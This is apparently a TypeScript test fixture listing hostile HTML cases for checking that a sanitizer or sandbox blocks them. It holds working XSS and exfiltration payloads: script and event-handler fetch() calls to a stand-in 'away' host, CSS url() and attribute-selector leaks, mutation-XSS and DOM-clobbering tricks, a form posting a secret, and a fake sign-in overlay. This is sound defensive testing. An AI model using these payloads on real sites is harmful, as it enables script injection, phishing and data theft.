// HTML as an attacker would send it. `away` is where it would call home; each case has one way, named by its key.

export interface HostileCase {
  readonly name: string;
  readonly html: string;
}

export const hostileCases = (away: string): readonly HostileCase[] =>
  [
    ["script", `<script>parent.fell = "script"; fetch("${away}/script")</script>`],
    ["script from elsewhere", `<script src="${away}/script.js"></script>`],
    ["event handlers", `<img src=x onerror="fetch('${away}/onerror')"><body onload="fetch('${away}/onload')">`],
    [
      "focus handler",
      `<input autofocus onfocus="fetch('${away}/onfocus')"><details open ontoggle="alert(1)">x</details>`,
    ],
    ["picture", `<img src="${away}/pixel.png"><img srcset="${away}/set.png 2x" src="data:image/png;base64,AAAA">`],
    ["picture element", `<picture><source srcset="${away}/source.png"><img src="${away}/in-picture.png"></picture>`],
    ["lazy picture", `<img loading="lazy" lowsrc="${away}/low.png" dynsrc="${away}/dyn.png">`],
    ["background", `<table background="${away}/table.png"><tr><td background="${away}/td.png">cell</td></tr></table>`],
    ["style attribute", `<p style="background:url(${away}/style.png);list-style-image:url('${away}/list.png')">p</p>`],
    ["escaped url", `<p style="background:\\75\\72\\6c(${away}/escaped.png)">p</p>`],
    ["custom property", `<p style="--u:url(${away}/var.png);background:var(--u)">p</p>`],
    ["image-set", `<p style='background:image-set("${away}/set.png" 1x)'>p</p>`],
    ["import", `<style>@import "${away}/import.css"; @import url(${away}/import2.css);</style>`],
    ["font", `<style>@font-face{font-family:f;src:url(${away}/font.woff2)} p{font-family:f}</style><p>p</p>`],
    [
      "attribute exfiltration",
      `<style>input[value^="a"]{background:url(${away}/a)}</style><input value="abc"><p style="cursor:url(${away}/c),auto">p`,
    ],
    ["link", `<link rel="stylesheet" href="${away}/sheet.css"><link rel="prefetch" href="${away}/prefetch">`],
    ["dns prefetch", `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}">`],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=${away}/refresh">`],
    ["base", `<base href="${away}/"><img src="based.png"><a href="page">p</a>`],
    ["iframe", `<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>top.fell='iframe'</script>"></iframe>`],
    ["object and embed", `<object data="${away}/object"></object><embed src="${away}/embed"><applet code="${away}">`],
    [
      "media",
      `<video src="${away}/video" autoplay poster="${away}/poster"></video><audio src="${away}/audio" autoplay>`,
    ],
    [
      "svg",
      `<svg onload="fetch('${away}/svg')"><script>top.fell='svg'</script><image href="${away}/svg.png"/><use href="${away}/u#a"/>
       <foreignObject><iframe src="${away}/foreign"></iframe></foreignObject><animate onbegin="alert(1)" attributeName="x"/></svg>`,
    ],
    [
      "mathml",
      `<math><mtext><img src="${away}/math.png"></mtext><maction actiontype="statusline#${away}">x</maction></math>`,
    ],
    ["svg as a picture", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`],
    [
      "form",
      `<form action="${away}/form" method="post"><input name="p" value="secret"><button formaction="${away}/button">Sign in</button></form>`,
    ],
    [
      "javascript link",
      `<a href="javascript:top.fell='link'">click</a><a href="${away}/link" ping="${away}/ping">click</a>`,
    ],
    ["mutation", `<noscript><p title="</noscript><img src=x onerror=top.fell='mutation'>"></noscript>`],
    [
      "mutation in math",
      `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=top.fell=1>">`,
    ],
    [
      "comment trick",
      `<!--[if mso]><img src="${away}/mso.png"><![endif]--><!--><img src=x onerror=top.fell='comment'>-->`,
    ],
    [
      "conditional namespace",
      `<v:imagedata src="${away}/vml.png"/><xml><o:shape background="${away}/office.png"/></xml>`,
    ],
    [
      "clobbering",
      `<form id="attributes"><input name="attributes"></form><img name="body"><a id="document" href="#">x</a>`,
    ],
    ["cover", `<div style="position:fixed;inset:0;z-index:2147483647;background:red">The sandbox says: sign in</div>`],
    ["template", `<template><script>top.fell='template'</script><img src="${away}/template.png"></template>`],
    ["unclosed", `<style>p{background:url(${away}/unclosed.png`],
  ].map(([name = "", html = ""]) => ({ name, html: `<p>Begin</p>${html}` }));
